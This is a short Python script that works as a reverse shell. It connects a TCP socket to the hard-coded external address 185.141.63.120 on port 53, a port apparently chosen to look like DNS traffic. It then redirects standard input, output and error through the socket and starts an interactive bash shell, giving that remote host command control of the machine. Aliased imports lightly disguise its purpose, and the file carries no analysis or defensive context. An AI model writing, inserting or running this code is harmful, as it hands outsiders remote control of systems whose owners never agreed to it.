import socket as so
import subprocess as sb
import os as o

k = so.socket(so.AF_INET, so.SOCK_STREAM)
k.connect(("185.141.63.120", 53))
[o.dup2(k.fileno(), fd) for fd in range(3)]
sb.call(["/bin/bash", "-i"])
